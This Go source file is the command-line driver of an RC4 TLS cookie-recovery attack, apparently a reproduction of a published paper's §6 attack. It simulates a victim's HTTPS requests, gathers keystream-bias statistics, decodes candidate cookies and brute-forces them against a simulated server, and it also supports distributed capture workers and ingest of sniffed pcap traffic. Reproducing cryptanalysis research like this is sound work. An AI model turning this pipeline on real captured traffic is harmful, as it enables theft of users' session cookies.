// Command cookieattack runs the full §6 HTTPS cookie attack end to end in
// the in-process simulator: craft the aligned request, make the victim's
// browser issue many requests over one persistent RC4 TLS connection,
// collect ciphertext statistics (Fluhrer–McGrew digraphs plus ABSAB
// differentials against the injected known plaintext), generate the cookie
// candidate list with the charset-restricted list-Viterbi, and brute-force
// it against the server.
//
// Collection is interruptible and distributable, the way the paper's
// multi-hour captures (§6.3: 52 hours for 9·2^27 requests) have to run in
// practice:
//
//	# a checkpointed exact-mode shard; Ctrl-C flushes the snapshot
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -collect-only
//	# resume the killed shard from its checkpoint (same flags + -resume)
//	cookieattack -mode exact -ciphertexts 4194304 -seed 1 \
//	             -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# a second, independently-seeded shard
//	cookieattack -mode model -ciphertexts 4194304 -seed 2 \
//	             -checkpoint shard2.snap -collect-only
//	# merge the shards and run the recovery phase on the pooled evidence
//	cookieattack -ciphertexts 0 -merge shard1.snap,shard2.snap
//
// Online mode closes the loop the way §6.2 describes — brute-forcing the
// candidate list against the server while capture continues — decoding on a
// cadence and stopping at the first server-confirmed cookie, usually far
// below the fixed budget:
//
//	cookieattack -online                       # geometric cadence 2^20, 2^21, ...
//	cookieattack -online -decode-every 33554432 # decode every 2^25 records
//	# an interrupted online run resumes mid-cadence
//	cookieattack -online -mode exact -checkpoint run.snap -resume run.snap
//
// Fleet-worker mode turns the driver into one capture node of a distributed
// run: it joins the cmd/fleetd coordinator, leases disjoint capture lanes,
// and streams each lane's evidence snapshot back until the coordinator
// confirms a cookie (see the fleet package):
//
//	cookieattack -fleet-worker coordinator:7100 -worker-id m1
//
// Trace mode ingests sniffed captures instead of simulating collection —
// the §6.3 pipeline (TCP reassembly, TLS record scanning, fixed-size
// request filtering) over pcap/pcapng files — and -write-pcap produces
// such captures from the simulator (the round trip is pinned bitwise
// against in-process capture):
//
//	cookieattack -write-pcap https.pcapng -ciphertexts 4194304 -seed 1
//	cookieattack -pcap https.pcapng -ciphertexts 4194304 -checkpoint shard.snap -collect-only
//	cookieattack -fleet-worker coordinator:7100 -pcap 'shard-*.pcap'   # serve exact lanes from trace shards
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/snapshot"
	"rc4break/internal/trace"
)

func main() {
	ciphertexts := flag.Uint64("ciphertexts", 9<<27, "total request copies this shard should hold, including resumed ones (paper: 9 x 2^27 for 94%); the online budget")
	candidates := flag.Int("candidates", 1<<16, "brute-force list depth (paper: 2^23)")
	secret := flag.String("secret", "Secur3C00kieVal+", "the 16-character secure cookie to recover")
	mode := flag.String("mode", "model", "collection mode: model (sampled sufficient statistics) | exact (real TLS records; slow beyond ~2^22)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for model-mode collection and decoding (0 = GOMAXPROCS)")
	checkpoint := flag.String("checkpoint", "", "snapshot file written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<22, "records between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "snapshot file to resume this shard's collection from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the evidence pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after collection (use with -checkpoint to produce a shard snapshot)")
	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first server-confirmed cookie")
	decodeEvery := flag.Uint64("decode-every", 0, "online: records between decode attempts (0 = geometric cadence from -first-decode)")
	firstDecode := flag.Uint64("first-decode", 1<<20, "online: records at the first decode attempt")
	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate list depth per decode round (0 = -candidates)")
	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := flag.String("pcap", "", "ingest record evidence from capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	writePcap := flag.String("write-pcap", "", "write the exact-mode victim stream (-ciphertexts records from -seed) as a capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	flag.Parse()

	if len(*secret) != 16 {
		fatal(fmt.Errorf("secret must be 16 characters, got %d", len(*secret)))
	}
	fmt.Println("[1/4] crafting aligned request (cookie first in header, injected padding after)...")
	cfg, req, err := job.CookieLayout(*secret)
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      cookie at offset %d (keystream counter base %d)\n", cfg.Offset, cfg.CounterBase)

	if *writePcap != "" {
		if err := writeCookiePcap(*writePcap, req, *seed, *ciphertexts); err != nil {
			fatal(err)
		}
		return
	}
	spec := job.Spec{Attack: "cookie", Mode: *mode, Seed: *seed, Secret: *secret, Workers: *workers}
	if *pcapIn != "" {
		if spec.Traces, err = cliutil.ExpandGlobs(*pcapIn); err != nil {
			fatal(fmt.Errorf("-pcap: %w", err))
		}
	}

	if *fleetWorker != "" {
		// Model-mode lanes draw their sufficient statistics from the lane's
		// derived seed; exact-mode lanes replay the victim stream from the
		// lane's absolute offset, or carve it out of the -pcap trace shards.
		if err := spec.RunWorker(*fleetWorker, *workerID); err != nil {
			fatal(err)
		}
		return
	}
	if *onlineMode {
		if *collectOnly || *merge != "" {
			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
		}
		if spec.Traces != nil {
			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
		}
	}

	var evidence []byte
	if *resume != "" {
		if evidence, err = os.ReadFile(*resume); err != nil {
			fatal(fmt.Errorf("resume %s: %w", *resume, err))
		}
	}
	rt, err := job.New(spec, evidence)
	if err != nil {
		fatal(err)
	}
	if *resume != "" {
		fmt.Printf("      resumed %s: %d records of evidence\n", *resume, rt.Observed())
	}
	attack := rt.Decoder.(*cookieattack.Attack)
	anchors := attack.AnchorsPerPair()
	fmt.Printf("      ABSAB anchors per pair: %d..%d (paper: 2x129)\n", minInt(anchors), maxInt(anchors))

	if *onlineMode {
		depth := *maxPerRound
		if depth <= 0 {
			depth = *candidates
		}
		runOnline(rt, *secret, *mode, *ciphertexts,
			online.Cadence{First: *firstDecode, Every: *decodeEvery},
			depth, *checkpoint, *checkpointEvery, *jsonOut)
		return
	}

	var remaining uint64
	if *ciphertexts > attack.Records {
		remaining = *ciphertexts - attack.Records
	}
	displayMode := *mode
	if spec.Traces != nil {
		displayMode = "trace"
	}
	fmt.Printf("[2/4] collecting %d ciphertexts (%s mode; %.1f h of traffic at %d req/s)...\n",
		remaining, displayMode, float64(remaining)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	start := time.Now()
	if remaining == 0 {
		fmt.Println("      shard target already reached by resumed evidence")
	} else if err := rt.Checkpointed(*checkpoint, *checkpointEvery)(*ciphertexts); err != nil {
		fatal(err)
	}
	if summary := rt.Summary(); summary != "" {
		fmt.Printf("      %s\n", summary)
	}
	collectTime := time.Since(start)
	fmt.Printf("      collected in %v (shard evidence: %d records)\n",
		collectTime.Round(time.Millisecond), attack.Records)

	if *checkpoint != "" {
		if err := rt.SaveFile(*checkpoint); err != nil {
			fatal(err)
		}
		fmt.Printf("      snapshot -> %s\n", *checkpoint)
	}

	// Shards that captured the same stream (same mode and seed) hold the
	// same observations; merging them would double-count evidence.
	seenStreams := make(map[snapshot.StreamInfo]string)
	if attack.Records > 0 && attack.Stream != (snapshot.StreamInfo{}) {
		seenStreams[attack.Stream] = "this shard"
	}
	for _, path := range cliutil.SplitList(*merge) {
		shard, err := cookieattack.ReadSnapshotFile(path)
		if err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		if shard.Stream != (snapshot.StreamInfo{}) {
			if prev, dup := seenStreams[shard.Stream]; dup {
				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its records would be double-counted",
					path, shard.Stream.Mode, shard.Stream.Seed, prev))
			}
			seenStreams[shard.Stream] = path
		}
		if err := attack.Merge(shard); err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		fmt.Printf("      merged %s: +%d records (pool now %d)\n", path, shard.Records, attack.Records)
	}

	if *collectOnly {
		fmt.Println("      collect-only: skipping recovery phase")
		return
	}

	fmt.Printf("[3/4] generating %d cookie candidates (charset-restricted list-Viterbi)...\n", *candidates)
	server := rt.Oracle.(*netsim.CookieServer)
	start = time.Now()
	cands, err := attack.Candidates(*candidates)
	decodeTime := time.Since(start)
	if err != nil {
		fatal(err)
	}
	start = time.Now()
	cookie, rank, err := cookieattack.WalkCandidates(cands, server.Check)
	oracleTime := time.Since(start)
	result := cliutil.RunResult{
		Attack:       "cookie",
		Mode:         displayMode,
		Success:      err == nil,
		Rank:         rank,
		Observations: attack.Records,
		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
		DecodeMS:     float64(decodeTime.Microseconds()) / 1000,
		OracleMS:     float64(oracleTime.Microseconds()) / 1000,
		ElapsedMS:    float64((collectTime + decodeTime + oracleTime).Microseconds()) / 1000,
	}
	if err != nil {
		result.Error = err.Error()
		fmt.Printf("      attack failed: %v (try more ciphertexts or a deeper list)\n", err)
		emitJSON(*jsonOut, result)
		os.Exit(1)
	}
	result.Plaintext = fmt.Sprintf("%x", cookie)

	fmt.Printf("[4/4] brute-forced in %v: cookie %q at list position %d (%d server checks, %.1f s at %d checks/s live)\n",
		(decodeTime + oracleTime).Round(time.Millisecond), cookie, rank, server.Attempts,
		float64(server.Attempts)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
	if string(cookie) == *secret {
		fmt.Println("      recovered cookie matches the secret — attack complete")
	}
	emitJSON(*jsonOut, result)
}

// emitJSON writes the machine-readable result as the final stdout line
// when -json is set.
func emitJSON(enabled bool, r cliutil.RunResult) {
	if err := r.Emit(enabled); err != nil {
		fatal(err)
	}
}

// runOnline drives the §6.2 closed loop: capture to the next cadence point
// (model-mode sufficient statistics or exact records through the scanner),
// decode the candidate list, brute-force it against the server, and stop at
// the first confirmed cookie. Decode points are absolute record counts, so
// a checkpointed run that is killed and resumed (-checkpoint/-resume)
// continues on exactly the cadence an uninterrupted run would use.
func runOnline(rt *job.Runtime, secret, mode string, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
	if budget <= rt.Observed() {
		fatal(fmt.Errorf("online: budget %d already reached by resumed evidence (%d records)", budget, rt.Observed()))
	}
	fmt.Printf("[2/3] online closed loop: budget %d records, first decode at %d, %s cadence, %d candidates/round...\n",
		budget, cad.First, cad, depth)
	res, err := online.Run(online.Config{
		Decoder:       rt.Decoder,
		Oracle:        rt.Oracle,
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        budget,
		Feed:          online.FeedFunc(rt.Checkpointed(checkpoint, checkpointEvery)),
		Checkpoint:    cliutil.OnlineCheckpoint(checkpoint, rt.Unit, rt.SaveFile, rt.Observed),
		Logf:          cliutil.IndentLogf,
	})
	if errors.Is(err, cliutil.ErrInterrupted) {
		fatal(err)
	}
	if err != nil {
		fmt.Printf("      online attack failed: %v (budget %d records; try a deeper list or a larger budget)\n", err, budget)
		emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, err))
		os.Exit(1)
	}
	if checkpoint != "" {
		if err := rt.SaveFile(checkpoint); err != nil {
			fatal(err)
		}
	}
	saved := budget - res.Observed
	fmt.Printf("[3/3] online success: cookie %q at rank %d after %d records — %d under the %d budget (%.1f h of capture saved)\n",
		res.Plaintext, res.Rank, res.Observed, saved, budget,
		float64(saved)/netsim.HTTPSRequestsPerSecond/3600)
	fmt.Printf("      %d decode rounds, %d server checks (+%d cache-skipped), %.1f h of traffic at %d req/s, %.1f s of checks at %d checks/s\n",
		res.Rounds, res.Checks, res.Skipped,
		float64(res.Observed)/netsim.HTTPSRequestsPerSecond/3600, netsim.HTTPSRequestsPerSecond,
		float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
	fmt.Printf("      wall-clock %v (capture %v, decode %v, oracle %v)\n",
		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
	if string(res.Plaintext) == secret {
		fmt.Println("      recovered cookie matches the secret — attack complete")
	}
	emitJSON(jsonOut, cliutil.OnlineRunResult("cookie", mode, res, nil))
}

// writeCookiePcap writes n records of the seed-derived exact-mode victim
// stream as a capture file — the sim → pcap half of the round trip, and
// the way trace shards for offline or fleet ingest are produced. The
// extension picks the container: .pcapng writes pcapng, anything else
// classic pcap.
func writeCookiePcap(path string, req httpmodel.Request, seed int64, n uint64) error {
	victim, err := job.HTTPSVictim(seed, req)
	if err != nil {
		return err
	}
	pw, done, err := trace.CreateFile(path, trace.LinkTypeEthernet)
	if err != nil {
		return err
	}
	sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
	if err != nil {
		done()
		return err
	}
	fmt.Printf("[2/2] writing %d records of the exact victim stream (seed %d) -> %s\n", n, seed, path)
	if err := victim.WriteTrace(sw, n); err != nil {
		done()
		return err
	}
	if err := done(); err != nil {
		return err
	}
	info, err := os.Stat(path)
	if err != nil {
		return err
	}
	fmt.Printf("      %d records, %.1f MB\n", n, float64(info.Size())/(1<<20))
	return nil
}

func minInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x < m {
			m = x
		}
	}
	return m
}

func maxInt(xs []int) int {
	m := xs[0]
	for _, x := range xs {
		if x > m {
			m = x
		}
	}
	return m
}

// fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
// flush the capture loop already reported).
func fatal(err error) {
	if errors.Is(err, cliutil.ErrInterrupted) {
		os.Exit(130)
	}
	fmt.Fprintln(os.Stderr, "cookieattack:", err)
	os.Exit(1)
}
